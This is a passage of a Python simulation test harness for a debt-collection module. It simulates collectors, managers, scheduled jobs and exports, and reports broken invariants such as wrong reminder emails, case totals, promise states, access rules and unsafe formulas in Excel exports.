            values["next_action_date"] = self.day + timedelta(days=rng.randint(2, 10))
        amount = 0.0
        if outcome == "promise":
            open_promised = sum(
                case.promise_ids.filtered(lambda p: p.state == "open").mapped("amount")
            )
            owed = case.amount_due - open_promised
            if case.currency_id.compare_amounts(owed, 1) <= 0:
                values["outcome"] = "reached"
            else:
                amount = case.currency_id.round(owed * rng.choice([0.3, 0.5, 1.0]))
                promised = self.day + timedelta(days=rng.randint(3, 21))
                if any(day <= self.day_index for day in self.typo_days):
                    promised = TYPO_DATE  # a slip of the keyboard
                    self.typo_days.remove(min(self.typo_days))
                values.update(promise_amount=amount, promise_date=promised)
        partner = case.partner_id
        label = f"{collector.name}: {values['channel']} {values['outcome']}"
        if amount:
            label += (
                f", promise {self._money(amount, case.currency_id)} by {values['promise_date']}"
            )
        if amount and rng.random() < 0.3:
            promise_model = self._as(collector, "collection.promise", case.company_id)
            vals = {"case_id": case.id, "amount": amount, "date_promised": values["promise_date"]}
            promise = self._attempt(
                partner, label + " (promise form)", lambda: promise_model.create(vals)
            )
        else:
            contacts = self._as(collector, "collection.interaction", case.company_id)
            interaction = self._attempt(partner, label, lambda: contacts.create(values))
            promise = interaction.promise_id if interaction else None
            if interaction and outcome == "dispute":
                invoices = self._open_invoices(case.company_id, partner)
                if invoices:
                    self.agenda[self.day + timedelta(days=1)].append(("dispute", invoices[0].id))
        self.counts["contacts"] += 1
        if promise:
            self.counts["promises"] += 1
            self._plan_promise(promise)

    def _plan_promise(self, promise):
        customer = self.by_partner.get(promise.partner_id.id)
        if not customer:
            return
        _weight, keep, part = BEHAVIOURS[customer["behaviour"]]
        draw = self.rng.random()
        last = min(promise.date_promised, self.start + timedelta(days=self.days + 30))
        span = max((last - self.day).days, 1)
        if draw < keep:
            amount = promise.amount
        elif draw < keep + part:
            amount = promise.currency_id.round(promise.amount * self.rng.uniform(0.3, 0.7))
        else:
            return
        when = self.day + timedelta(days=self.rng.randint(1, span))
        self.agenda[when].append(
            ("promise", promise.partner_id.id, promise.company_id.id, amount, promise.id)
        )

    def _forbidden_writes(self):
        """A collector tries to close or clear a case by writing its fields directly,
        or to do what only a manager decides (simulation_office.py)."""
        self._office_forbidden_writes()
        if self.rng.random() > 0.05:
            return
        collectors = self._available_collectors()
        if not collectors:
            return
        collector = self.rng.choice(collectors)
        cases = self._as(collector, "collection.case").search(
            [("is_closed", "=", False), ("collector_id", "=", collector.id)], limit=5
        )
        if not cases:
            return
        case = self.rng.choice(cases)
        closed = self.su["collection.stage"].search([("is_closed", "=", True)], limit=1)
        attempts = [
            {"stage_id": closed.id, "close_reason": "paid"},
            {"close_reason": "written_off"},
            {"amount_due": 0.0},
            {"amount_recovered": case.amount_assigned},
        ]
        vals = self.rng.choice(attempts)
        accepted = False
        try:
            with self.cr.savepoint():
                case.write(vals)
                case.flush_recordset()
                raise _Undo
        except _Undo:
            accepted = True  # the write went through: undone, and reported below
        except USER_ERRORS:
            self._log(case.partner_id, f"{collector.name}: tried to write {sorted(vals)}: refused")
        if accepted:
            self._log(case.partner_id, f"{collector.name}: wrote {sorted(vals)} directly")
            self._fail(
                "collectors cannot write protected case fields",
                f"{collector.name} wrote {vals} on case {case.name} directly (undone)",
                [case.partner_id],
                key=("protected", tuple(sorted(vals))),
            )

    # ================================================================== managers
    def _manager_work(self):
        rng = self.rng
        events = [
            (0.05, self._escalate_case),
            (0.03, self._close_case_by_hand),
            (0.03, self._reassign_case),
            (0.04, self._edit_policy),
            (0.15, self._release_credit_holds),
            (0.06, self._manual_run),
        ]
        for chance, event in events:
            if rng.random() < chance:
                event()
        if self.day_index == self.reason_delete_day:
            reason = self.doomed_reason
            in_use = self.su["account.move"].search_count(
                [("collection_dispute_reason_id", "=", reason.id)]
            )
            name = reason.name
            own = self._as(self.manager, "collection.dispute.reason").browse(reason.id)
            self._log_global(f"manager deletes dispute reason '{name}' ({in_use} uses)")
            self._attempt(None, "manager: delete a dispute reason", own.unlink)

    def _pick_case(self, user, domain):
        cases = self._as(user, "collection.case").search(
            [("is_closed", "=", False), *domain], order="id"
        )
        return self.rng.choice(cases) if cases else None

    def _escalate_case(self):
        case = self._pick_case(
            self.manager, [("legal_stage_id", "=", False), ("days_overdue", ">", 45)]
        )
        if case:
            self.counts["escalations"] += 1
            self._attempt(
                case.partner_id, "manager: escalated to legal", case.action_escalate_legal
            )

    def _close_case_by_hand(self):
        case = self._pick_case(self.manager, [])
        if not case:
            return
        reason = self.rng.choice(["settled", "written_off", "returned"])
        wizard = self._as(self.manager, "collection.case.close", case.company_id).with_context(
            active_model="collection.case", active_ids=case.ids
        )
        values = {"close_reason": reason, "note": "Agreed"}
        if reason == "settled":
            values["line_ids"] = self._settlement_lines(case)
        if self._attempt(
            case.partner_id,
            f"manager: case {case.name} closed by hand ({reason})",
            lambda: wizard.create(values).action_close(),
        ):
            self.counts["closed_by_hand"] += 1

    def _reassign_case(self):
        case = self._pick_case(self.manager, [])
        if not case:
            return
        candidates = [
            u
            for u in self.collectors.values()
            if u.active and case.company_id in u.company_ids and u != case.collector_id
        ]
        if not candidates:
            return
        user = self.rng.choice(candidates)
        wizard = self._as(self.manager, "collection.case.reassign", case.company_id).with_context(
            active_model="collection.case", active_ids=case.ids
        )
        self._attempt(
            case.partner_id,
            f"manager: case {case.name} reassigned to {user.name}",
            lambda: wizard.create({"collector_id": user.id}).action_reassign(),
        )

    def _edit_policy(self):
        policies = [self.company_a.collection_policy_id, self.strict_policy]
        policies.append(self.company_b.collection_policy_id)
        policy = self.rng.choice(policies)
        levels = self._as(self.manager, "collection.level", policy.company_id).browse(
            policy._levels_by_delay().ids
        )
        level = self.rng.choice(levels)
        if self.rng.random() < 0.7:
            vals = {"min_interval_days": self.rng.choice([0, 3, 7, 10, 14])}
        else:
            vals = {"auto_execute": not level.auto_execute}
        if self._attempt(None, "manager: policy edit", lambda: level.write(vals)) is not None:
            self._log_global(f"manager sets {vals} on level '{level.name}' of {policy.name}")

    def _release_credit_holds(self):
        held = self.su["res.partner"].search([("collection_credit_hold", "=", True)], order="id")
        for partner in held:
            if not self._open_invoices(partner=partner).filtered(
                lambda m: m.invoice_date_due < self.day
            ):
                own = self._as(self.manager, "res.partner").browse(partner.id)
                self._attempt(
                    partner, "manager: credit hold released", own.action_collection_release_hold
                )

    def _manual_run(self, overlapping=False):
        """A manager runs the follow-ups of a company by hand: as of today (also while
        the daily job is between two batches) or, now and then, as of a date picked
        wrongly in the future."""
        company = self.rng.choice(self.companies)
        run_date = self.day
        if not overlapping and self.rng.random() < 0.25:
            run_date += timedelta(days=self.rng.randint(1, 20))  # the wrong date picked
        wizard_model = self._as(self.manager, "collection.followup.run", company)
        while_job = " while the job runs" if overlapping else ""
        self._log_global(f"manager runs follow-ups of {company.name} as of {run_date}{while_job}")
        with self._sending(f"manual run as of {run_date}{while_job}"):
            self._attempt(
                None,
                "manager: run follow-ups",
                lambda: wizard_model.create(
                    {"company_id": company.id, "date": run_date}
                ).action_run(),
            )

    def _review_drafts(self):
        """The manager reviews the follow-ups waiting as drafts: sends most, cancels some
        (all selected at once in the list, whatever their company)."""
        drafts = self._as(self.manager, "collection.followup").search(
            [("state", "=", "draft")], order="id"
        )
        for draft in drafts:
            if draft.id not in self.review:
                lag = self.rng.choice([0, 0, 1, 2, 3])
                self.review[draft.id] = (self.day + timedelta(days=lag), self.rng.random() < 0.85)
        due = drafts.filtered(lambda d: self.review[d.id][0] <= self.day)
        to_send = due.filtered(lambda d: self.review[d.id][1])
        to_cancel = due - to_send
        for draft in to_send:
            self._log(draft.partner_id, f"manager: sends draft follow-up {draft.level_id.name}")
        for draft in to_cancel:
            self._log(draft.partner_id, f"manager: cancels draft follow-up {draft.level_id.name}")
        if to_send:
            with self._sending("review of drafts"):
                self._attempt(None, "manager: send drafts", to_send.action_send)
            self.counts["drafts_sent"] += len(to_send)
        if to_cancel:
            self._attempt(None, "manager: cancel drafts", to_cancel.action_cancel)

    def _legal_work(self):
        if self.rng.random() > 0.07:
            return
        case = self._pick_case(self.legal, [("legal_stage_id", "!=", False)])
        if case:
            self.counts["letters"] += 1
            self._attempt(
                case.partner_id, "legal: demand letter sent", case.action_send_demand_letter
            )

    def _staff_changes(self):
        rng = self.rng
        if rng.random() < 0.04:
            user = rng.choice([u for u in self.collectors.values() if u.active])
            start = self.day + timedelta(days=rng.randint(1, 3))
            end = start + timedelta(days=rng.randint(5, 14))
            self.su["res.users"].browse(user.id).write(
                {"collection_absent_from": start, "collection_absent_to": end}
            )
            self._log_global(f"{user.name} on leave from {start} to {end}")
        if self.day_index == self.leaver_day:
            cases = self.su["collection.case"].search_count(
                [("collector_id", "=", self.leaver.id), ("is_closed", "=", False)]
            )
            self._log_global(f"{self.leaver.name} leaves the company ({cases} open cases)")
            self._attempt(
                None,
                "admin: archive a collector",
                self.su["res.users"].browse(self.leaver.id).action_archive,
            )

    # ================================================================== jobs
    def _run_jobs(self):
        for cron in self.crons:
            if cron.ir_actions_server_id.model_id.model == "collection.followup":
                kill_at = self.rng.choice([0, 1]) if self.rng.random() < KILL_RATE else None
                overlap = self.rng.random() < OVERLAP_RATE
                with self._sending("follow-up job"):
                    self._run_cron(cron, kill_at, overlap)
            else:
                self._run_cron(cron)
        self._run_mail_queue()
        self._expire_disputes()

    def _run_mail_queue(self):
        """The mail queue's job as the cron worker runs it (without its commits): the
        statements the queued reminders wait for are printed, then the emails handed to
        the loopback server. Every reminder sent carries its statement when its level
        attaches one, and only one."""
        mails = self.su["mail.mail"].search(
            [
                ("state", "=", "outgoing"),
                "|",
                ("scheduled_date", "=", False),
                ("scheduled_date", "<=", datetime.combine(self.day, NOON)),
            ],
            order="id",
        )
        received = len(self.smtp.messages)
        mails.send(auto_commit=False)
        self.counts["delivered"] += len(self.smtp.messages) - received
        self._check_statements()
        followups = self.su["collection.followup"].search(
            [("mail_id", "in", mails.ids), ("partner_id", "in", self.customer_ids)], order="id"
        )
        for followup in followups:
            mail = followup.mail_id
            expected = 1 if followup.level_id.attach_statement else 0
            statements = mail.attachment_ids.filtered(
                lambda a, f=followup: a.res_model == f._name and a.res_id == f.id
            )
            if mail.state == "sent" and len(statements) != expected:
                self._fail(
                    "a reminder sent carries its statement once",
                    f"email of {followup.level_id.name} to {followup.partner_id.name} "
                    f"({followup.company_id.name}) sent with {len(statements)} statement(s)",
                    [followup.partner_id],
                    key=("statement-attached", followup.id),
                )

    def _run_cron(self, cron, kill_at=None, overlap=False):
        """Run ``cron`` the way the cron worker does: its server action as the cron's
        user, again while it reports remaining work. ``kill_at``: that call dies before
        its commit (its work is rolled back) and the job is run again; ``overlap``: a
        manager runs the follow-ups by hand between its first two calls."""
        action = cron.ir_actions_server_id.with_user(cron.user_id)
        before = self.cr.sql_log_count
        try:
            self._run_cron_calls(cron, action, kill_at, overlap)
        finally:
            self.profile[cron.name] += self.cr.sql_log_count - before

    def _run_cron_calls(self, cron, action, kill_at, overlap):
        for call in range(60):
            if overlap and call == 1:
                self._manual_run(overlapping=True)
            _cron, progress = cron.sudo()._add_progress()
            try:
                with self.cr.savepoint():
                    action.with_context(ir_cron_progress_id=progress.id, cron_id=cron.id).run()
                    self.env.flush_all()
                    if call == kill_at:
                        raise _Undo
            except _Undo:
                self.counts["killed"] += 1
                self._log_global(f"job '{cron.name}' killed in its call {call + 1}")
                continue
            except Exception as error:  # no job may raise, whatever the data
                self._fail(
                    "no job raises",
                    f"job '{cron.name}' raised {error!r}\n{traceback.format_exc(limit=8)}",
                    self._partners_in(error),
                    key=("job", cron.id, type(error).__name__),
                )
                return
            if not progress.remaining or not progress.done:
                return
        self._fail("no job raises", f"job '{cron.name}' never finished", [], key=("loop", cron.id))

    def _partners_in(self, error):
        """Customers named in an error message, for the story."""
        text = str(error)
        return [c["partner"] for c in self.customers if c["partner"].name in text][:3]

    def _expire_disputes(self):
        """The dispute job released the disputes that ended before today."""
        for move_id, end in list(self.disputes.items()):
            if end and end < self.day:
                self.disputes.pop(move_id)
                move = self.su["account.move"].browse(move_id)
                self._log(
                    move.commercial_partner_id,
                    f"dispute on {self._doc(move)} expired (until {end})",
                )

    # ================================================================== sending
    @contextmanager
    def _sending(self, what):
        """Check every follow-up email queued while the block runs against the book as
        it was when it started."""
        before = self._send_state()
        yield
        self._check_sent(what, before)

    def _send_state(self):
        day = self.day
        rows = self._query
        return {
            "mail": rows("SELECT COALESCE(MAX(id), 0) FROM mail_mail")[0][0],
            "followup": rows("SELECT COALESCE(MAX(id), 0) FROM collection_followup")[0][0],
            "legal": set(
                rows(
                    "SELECT partner_id, company_id FROM collection_case"
                    " WHERE NOT is_closed AND legal_stage_id IS NOT NULL"
                )
            ),
            "promise": set(
                rows("SELECT partner_id, company_id FROM collection_promise WHERE state = 'open'")
            ),
            "drafts": set(
                rows("SELECT partner_id, company_id FROM collection_followup WHERE state = 'draft'")
            ),
            "disputed": {
                row[0]
                for row in rows(
                    "SELECT id FROM account_move WHERE collection_dispute_reason_id IS NOT NULL"
                    " AND (collection_dispute_end_date IS NULL"
                    " OR collection_dispute_end_date >= %s)",
                    day,
                )
            }
            | {move_id for move_id, end in self.disputes.items() if not end or end >= day},
            "excluded": {
                row[0] for row in rows("SELECT id FROM account_move WHERE collection_exclude")
            }
            | self.excluded,
        }

    def _check_sent(self, what, before):
        # the email each follow-up queued (notifications to followers are not reminders)
        for followup_id, mail_id in self._query(
            "SELECT id, mail_id FROM collection_followup WHERE mail_id > %s"
            " AND partner_id = ANY(%s) ORDER BY id",
            before["mail"],
            self.customer_ids,
        ):
            if mail_id in self.checked_mails:
                continue  # checked by a watch nested in this one
            self.checked_mails.add(mail_id)
            self.counts["emails"] += 1
            self._check_email(what, before, self.su["collection.followup"].browse(followup_id))
        for followup_id, partner_id, company_id in self._query(
            "SELECT id, partner_id, company_id FROM collection_followup"
            " WHERE id > %s AND state != 'cancel' AND partner_id = ANY(%s)",
            before["followup"],
            self.customer_ids,
        ):
            if (partner_id, company_id) in before["drafts"]:
                followup = self.su["collection.followup"].browse(followup_id)
                self._fail(
                    "a review draft blocks later levels",
                    f"{what}: follow-up {followup.level_id.name} made for "
                    f"{followup.partner_id.name} ({followup.company_id.name}) while a draft "
                    "waited for review",
                    [followup.partner_id],
                    key=("draft-blocks", followup_id),
                )
        self._check_statements()

    def _check_email(self, what, before, followup):
        key = (followup.partner_id.id, followup.company_id.id)
        who = f"{what}: email of {followup.level_id.name} to {followup.partner_id.name}"
        who += f" ({followup.company_id.name})"
        if key in before["legal"]:
            self._fail(
                "no email to a customer in legal action",
                who,
                [followup.partner_id],
                key=("legal-mail", followup.id),
            )
        if key in before["promise"]:
            self._fail(
                "no email to a customer with an open promise",
                who,
                [followup.partner_id],
                key=("promise-mail", followup.id),
            )
        wrong = []
        for invoice in followup.invoice_ids:
            reasons = []
            if invoice.id in before["disputed"]:
                reasons.append("disputed")
            if invoice.id in before["excluded"]:
                reasons.append("excluded")
            if invoice.currency_id.is_zero(invoice.amount_residual):
                reasons.append("paid")
            if followup.level_id.delay_days > 0 and invoice.invoice_date_due >= self.day:
                reasons.append(f"not due before {invoice.invoice_date_due}")
            if reasons:
                wrong.append(f"{self._doc(invoice)} ({', '.join(reasons)})")
        if wrong or not followup.invoice_ids:
            self._fail(
                "email lists only due, undisputed, included invoices",
                f"{who} (level {followup.level_id.delay_days} days) lists "
                + ("; ".join(wrong) if wrong else "no invoice"),
                [followup.partner_id],
                key=("listed", followup.id),
            )

    def _check_statements(self):
        """Statements attached since the last look come from the follow-up's company."""
        attachments = self.su["ir.attachment"].search(
            [("res_model", "=", "collection.followup"), ("id", ">", self.watermarks["attachment"])],
            order="id",
        )
        for attachment in attachments:
            self.watermarks["attachment"] = attachment.id
            text = self._attachment_text(attachment.raw or b"")
            if text is None:
                continue
            followup = self.su["collection.followup"].browse(attachment.res_id)
            if followup.company_id not in self.companies:
                continue  # a follow-up of the database's own data (demo), not of this book
            other = self.companies - followup.company_id
            named = self._names_company(text, other)
            # a PDF made by a wkhtmltopdf without patched Qt has no header to read
            headed = self._names_company(text, followup.company_id) or text.startswith("%PDF")
            if named or not headed:
                found = named.start() if named else 0
                self._fail(
                    "statement from the follow-up's company",
                    f"statement for {followup.partner_id.name} in {followup.company_id.name} "
                    f"is headed or filled by {other.name}: "
                    f"{text[max(found - 200, 0) : found + 60]!r}",
                    [followup.partner_id],
                    key=("statement", followup.company_id.id),
                )

    @staticmethod
    def _attachment_text(raw):
        """The text of a statement: HTML in tests, a PDF's text (after a "%PDF" mark)
        outside them."""
        if not raw.startswith(b"%PDF"):
            return html.unescape(raw.decode("utf-8", "replace"))
        try:
            reader = PdfFileReader(io.BytesIO(raw), strict=False)
            return "%PDF\n" + "\n".join(page.extract_text() or "" for page in reader.pages)
        except Exception:  # an unreadable PDF is not what is checked here
            return None

    @staticmethod
    def _names_company(text, company):
        """Where ``text`` names ``company`` as a word, not inside another word (the name
        ``company_2`` is in the CSS class ``o_company_25_layout``)."""
        return re.search(rf"(?<!\w){re.escape(company.name)}(?!\w)", text)

    # ================================================================== exports
    def _export_reports(self):
        """Every report of the Excel wizard, as a manager, for both companies."""
        manager = self.manager if (self.day_index // 7) % 2 else self.manager_zh
        wizards = self._as(manager, "collection.report.wizard")
        for report_type in dict(wizards._fields["report_type"].selection):
            values = {
                "report_type": report_type,
                "date": self.day,
                "date_from": self.day - timedelta(days=30),
                "company_ids": [Command.set(self.companies.ids)],
            }
            wizard = self._attempt(
                None,
                f"{manager.name}: export {report_type}",
                lambda values=values: wizards.create(values).action_export() and wizards,
            )
            if wizard is None:
                self._fail(
                    "exports open and are safe",
                    f"export {report_type} as of {self.day} by {manager.name} failed",
                    [],
                    key=("export", report_type),
                )
                continue
            exported = wizards.search([("report_type", "=", report_type)], order="id desc", limit=1)
            self.counts["exports"] += 1
            self._check_workbook(report_type, exported)

    def _check_workbook(self, report_type, wizard):
        try:
            book = load_workbook(io.BytesIO(base64.b64decode(wizard.file)), data_only=False)
        except Exception as error:  # the file must open in a spreadsheet
            self._fail(
                "exports open and are safe",
                f"{report_type}: does not open: {error!r}",
                [],
                key=("open", report_type),
            )
            return
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f" and not SAFE_FORMULA.fullmatch(str(value)):
                        self._fail(
                            "exports open and are safe",
                            f"{report_type}: cell {sheet.title}!{cell.coordinate} is the formula "
                            f"{value!r} made of user text",
                            self._partners_named(str(value)),
                            key=("formula", report_type, str(value)),
                        )
        if report_type == "aging":
            self._check_aging(book.worksheets[0])

    def _partners_named(self, text):
        return [c["partner"] for c in self.customers if c["partner"].name in text][:1]

    def _check_aging(self, sheet):
        exported = defaultdict(float)
        for row in sheet.iter_rows(min_row=4, values_only=True):
            if row and isinstance(row[0], str) and len(row) > 14:
                total = row[14]
                if isinstance(total, (int, float)) and not isinstance(total, bool):
                    exported[row[0]] += total
        book = dict(
            self._query(
                """SELECT l.company_id, SUM(l.amount_residual) FROM account_move_line l
                     JOIN account_account a ON a.id = l.account_id
                    WHERE a.account_type = 'asset_receivable' AND l.parent_state = 'posted'
                      AND l.company_id = ANY(%s) AND l.date <= %s
                 GROUP BY l.company_id""",
                self.companies.ids,
                self.day,
            )
        )
        for company in self.companies:
            expected = book.get(company.id, 0.0)
            if company.currency_id.compare_amounts(exported[company.name], expected) != 0:
                self._fail(
                    "aging total = open receivables",
                    f"aging as of {self.day} for {company.name}: {exported[company.name]:.2f} "
                    f"against open receivables {expected:.2f}",
                    [],
                    key=("aging", company.id),
                )

    # ================================================================== invariants
    def _check_invariants(self):
        self.env.flush_all()
        self.env.invalidate_all()
        checks = [
            self._check_followups,
            self._check_executed_followups,
            self._check_cases,
            self._check_case_collectors,
            self._check_promises,
            self._check_disputes_and_exclusions,
            self._check_access,
            self._check_office,
        ]
        for check in checks:
            check()

    def _check_followups(self):
        for partner_id, company_id, day, count in self._query(
            """SELECT partner_id, company_id, date, COUNT(*) FROM collection_followup
                WHERE state != 'cancel' AND partner_id = ANY(%s)
             GROUP BY 1, 2, 3 HAVING COUNT(*) > 1""",
            self.customer_ids,
        ):
            company = self.su["res.company"].browse(company_id)
            self._fail(
                "one follow-up per customer and day",
                f"{self._name(partner_id)} has {count} follow-ups on {day} in {company.name}",
                [partner_id],
                key=("twice", partner_id, company_id, day),
            )
        for followup_id, partner_id, day in self._query(
            "SELECT id, partner_id, date FROM collection_followup"
            " WHERE date > %s AND partner_id = ANY(%s)",
            self.day,
            self.customer_ids,
        ):
            self._fail(
                "no follow-up dated in the future",
                f"follow-up {followup_id} of {self._name(partner_id)} is dated {day}",
                [partner_id],
                key=("future", followup_id),
            )
        for draft_id, later_id, partner_id in self._query(
            """SELECT d.id, f.id, d.partner_id FROM collection_followup d
                 JOIN collection_followup f ON f.partner_id = d.partner_id
                  AND f.company_id = d.company_id AND f.id > d.id AND f.state != 'cancel'
                WHERE d.state = 'draft' AND d.partner_id = ANY(%s)""",
            self.customer_ids,
        ):
            self._fail(
                "a review draft blocks later levels",
                f"{self._name(partner_id)}: follow-up {later_id} made after draft {draft_id}",
                [partner_id],
                key=("draft-blocks", later_id),
            )

    def _check_executed_followups(self):
        """Nothing half-done: an executed follow-up moved its invoices and queued its
        email."""
        for followup_id, partner_id, move_id in self._query(
            """SELECT f.id, f.partner_id, m.id FROM collection_followup f
                 JOIN collection_followup_invoice_rel r ON r.followup_id = f.id
                 JOIN account_move m ON m.id = r.move_id
                WHERE f.state = 'done' AND f.partner_id = ANY(%s)
                  AND (m.collection_last_date IS NULL OR m.collection_last_date < f.date)""",
            self.customer_ids,
        ):
            self._fail(
                "executed follow-ups are complete",
                f"follow-up {followup_id} of {self._name(partner_id)} is done but invoice "
                f"{move_id} was not moved to its level",
                [partner_id],
                key=("half-done", followup_id),
            )
        for followup_id, partner_id in self._query(
            "SELECT id, partner_id FROM collection_followup WHERE state = 'done'"
            " AND channel = 'email' AND mail_id IS NULL AND partner_id = ANY(%s)",
            self.customer_ids,
        ):
            self._fail(
                "executed follow-ups are complete",
                f"follow-up {followup_id} of {self._name(partner_id)} says email but has none",
                [partner_id],
                key=("no-mail", followup_id),
            )

    def _check_cases(self):
        rows = self._query(
            """SELECT k.id, k.name, k.partner_id, k.is_closed, k.close_reason,
                      COALESCE(k.amount_assigned, 0), COALESCE(k.amount_due, 0),
                      COALESCE(k.amount_recovered, 0), COALESCE(k.amount_credited, 0),
                      cur.rounding,
                      COALESCE((SELECT SUM(l.amount_residual) FROM account_move_line l
                                  JOIN account_move m ON m.id = l.move_id
                                  JOIN account_account a ON a.id = l.account_id
                                 WHERE m.collection_case_id = k.id
                                   AND a.account_type = 'asset_receivable'), 0)
                 FROM collection_case k
                 JOIN res_company c ON c.id = k.company_id
                 JOIN res_currency cur ON cur.id = c.currency_id
                WHERE k.partner_id = ANY(%s)""",
            self.customer_ids,
        )
        for row in rows:
            self._check_case(*row)

    def _check_case(
        self,
        case_id,
        name,
        partner,
        closed,
        reason,
        assigned,
        due,
        recovered,
        credited,
        rounding,
        owed,
    ):
        tolerance = rounding * 1.01
        if not closed and abs(due - owed) > tolerance:
            self._fail(
                "case amount due = invoices' residuals",
                f"case {name}: amount due {due:.2f}, its invoices owe {owed:.2f}",
                [partner],
                key=("due", case_id),
            )
        if abs(recovered + credited + due - assigned) > tolerance:
            self._fail(
                "case recovered + credited + due = assigned",
                f"case {name}: recovered {recovered:.2f} + credited {credited:.2f} + due "
                f"{due:.2f} != assigned {assigned:.2f}",
                [partner],
                key=("sum", case_id),
            )
        if closed and reason == "paid" and abs(owed) > tolerance:
            self._fail(
                "a case closed as paid owes nothing",
                f"case {name} is closed as paid but its invoices owe {owed:.2f}",
                [partner],
                key=("closed-owes", case_id),
            )

    def _check_case_collectors(self):
        for case_id, name, partner_id, login in self._query(
            """SELECT k.id, k.name, k.partner_id, u.login FROM collection_case k
                 JOIN res_users u ON u.id = k.collector_id
                WHERE NOT k.is_closed AND NOT u.active AND k.partner_id = ANY(%s)""",
            self.customer_ids,
        ):
            self._fail(
                "open cases have an active collector",
                f"case {name} stays with the archived user {login}",
                [partner_id],
                key=("orphan", case_id),
            )

    def _check_promises(self):
        promises = self.su["collection.promise"].search(
            [("state", "!=", "cancel"), ("partner_id", "in", self.customer_ids)], order="id"
        )
        payments = self._promise_payments(promises)
        for (partner, company), group in promises.grouped(
            lambda p: (p.partner_id, p.company_id)
        ).items():
            self._check_promise_allocation(
                partner, company, group, payments[(partner.id, company.id)]
            )
        for promise in promises:
            self._check_promise_state(promise)

    def _promise_payments(self, promises):
        """Money (not credit notes) reconciled on each customer's invoices, by date."""
        payments = defaultdict(list)
        if not promises:
            return payments
        for partner_id, company_id, day, amount in self._query(
            """SELECT inv.commercial_partner_id, inv.company_id, apr.max_date, SUM(apr.amount)
                 FROM account_partial_reconcile apr
                 JOIN account_move_line dl ON dl.id = apr.debit_move_id
                 JOIN account_move inv ON inv.id = dl.move_id
                 JOIN account_move_line cl ON cl.id = apr.credit_move_id
                 JOIN account_move cm ON cm.id = cl.move_id
                WHERE inv.move_type = 'out_invoice' AND cm.move_type != 'out_refund'
                  AND inv.commercial_partner_id = ANY(%s)
             GROUP BY 1, 2, 3""",
            promises.partner_id.ids,
        ):
            payments[(partner_id, company_id)].append((day, amount))
        return payments

    def _check_promise_allocation(self, partner, company, promises, payments):
        """Promises made on or after a day can only be paid by money of that day or
        later: for every such day, what they count as paid is at most that money (each
        promise's amount paid is rounded: a cent each is allowed)."""
        currency = company.currency_id
        for since in sorted(set(promises.mapped("date"))):
            counted_promises = promises.filtered(lambda p, d=since: p.date >= d)
            counted = sum(counted_promises.mapped("amount_paid"))
            paid = sum(amount for day, amount in payments if day >= since)
            if counted - paid > currency.rounding * len(counted_promises) + 1e-6:
                reversed_on = [day for day in self.reversals[partner.id] if day >= since]
                self._fail(
                    "promises: allocated <= paid after the promise",
                    f"{partner.name} ({company.name}): promises made since {since} count "
                    f"{counted:.2f} as paid, but {paid:.2f} was paid since then"
                    + (
                        f" (payments reversed on {', '.join(map(str, reversed_on))})"
                        if reversed_on
                        else ""
                    ),
                    [partner],
                    key=("allocated", partner.id, company.id),
                )
                return

    def _check_promise_state(self, promise):
        currency = promise.currency_id
        paid = currency.compare_amounts(promise.amount_paid, 0) > 0
        full = currency.compare_amounts(promise.amount_paid, promise.amount) >= 0
        grace = promise.company_id.collection_promise_grace_days
        wrong = {
            "kept": not full,
            "partial": not paid or full,
            "broken": paid,
            "open": full
            or (
                promise.date_promised < date.max - timedelta(days=grace + 1)
                and self.day > promise.date_promised + timedelta(days=grace)
            ),
        }.get(promise.state)
        if wrong:
            self._fail(
                "promise state follows payments",
                f"promise {promise.id} of {promise.partner_id.name}: {promise.state} with "
                f"{promise.amount_paid:.2f} of {promise.amount:.2f} paid, promised for "
                f"{promise.date_promised}",
                [promise.partner_id],
                key=("promise-state", promise.id, promise.state),
            )

    def _check_disputes_and_exclusions(self):
        disputed = {
            row[0]: row[1]
            for row in self._query(
                "SELECT id, collection_dispute_end_date FROM account_move"
                " WHERE collection_dispute_reason_id IS NOT NULL"
                " AND commercial_partner_id = ANY(%s)",
                self.customer_ids,
            )
        }
        for move_id in sorted(set(disputed) ^ set(self.disputes)):
            move = self.su["account.move"].browse(move_id)
            expected = "disputed" if move_id in self.disputes else "not disputed"
            self._fail(
                "disputes change only by users or expiry",
                f"invoice {self._doc(move)} of {move.commercial_partner_id.name} should be "
                f"{expected}",
                [move.commercial_partner_id],
                key=("dispute", move_id, expected),
            )
        excluded = {
            row[0]
            for row in self._query(
                "SELECT id FROM account_move WHERE collection_exclude"
                " AND commercial_partner_id = ANY(%s)",
                self.customer_ids,
            )
        }
        for move_id in sorted(excluded ^ self.excluded):
            move = self.su["account.move"].browse(move_id)
            self._fail(
                "exclusions change only by users",
                f"invoice {self._doc(move)}: excluded is {move_id in excluded}, users set "
                f"{move_id in self.excluded}",
                [move.commercial_partner_id],
                key=("exclude", move_id),
            )

    def _check_access(self):
        """A collector reads their own cases and the unassigned ones, per company."""
        cases = self.su["collection.case"].with_context(active_test=False)
        for user in self.collectors.values():
            if not user.active:
                continue
            for company in user.company_ids & self.companies:
                seen = (
                    self.env["collection.case"]
                    .with_user(user)
                    .with_context(allowed_company_ids=company.ids, active_test=False)
                    .search([])
                )
                expected = cases.search(
                    [("company_id", "=", company.id), ("collector_id", "in", [user.id, False])]
                )
                if set(seen.ids) != set(expected.ids):
                    extra = (seen - expected).mapped("name")
                    missing = (expected - seen).mapped("name")
                    self._fail(
                        "collector sees own and unassigned cases",
                        f"{user.name} in {company.name}: sees also {extra}, misses {missing}",
                        (seen ^ expected).partner_id[:2],
                        key=("access", user.id, company.id),
                    )

    # ================================================================== reporting
    def _name(self, partner_id):
        return self.su["res.partner"].browse(partner_id).name

    def _fail(self, invariant, detail, partners, key=None):
        key = (invariant, *(key or (detail,)))
        if key in self.reported:
            return
        self.reported.add(key)
        ids = []
        for partner in partners:
            pid = partner if isinstance(partner, int) else partner.commercial_partner_id.id
            if pid not in ids:
                ids.append(pid)
        lines = [f"[{invariant}] {detail}"]
        for pid in ids:
            lines.append(f"  story of {self._name(pid)} (id {pid}):")
            lines += [f"    {event}" for event in self.story[pid][-14:]]
        failure = {
            "seed": self.seed,
            "day": self.day_index,
            "date": self.day,
            "invariant": invariant,
            "text": "\n".join(lines),
        }
        self.failures.append(failure)
        self.pending_failures.append(failure)

    def _failure_report(self, failures):
        head = (
            f"Simulation seed {self.seed}, day {self.day_index} ({self.day}): "
            f"{len(failures)} invariant(s) broken. Replay: ./dev simulate --seed {self.seed} "
            f"--days {self.day_index}"
        )
        recent = "\n".join(f"    {event}" for event in self.global_story[-8:])
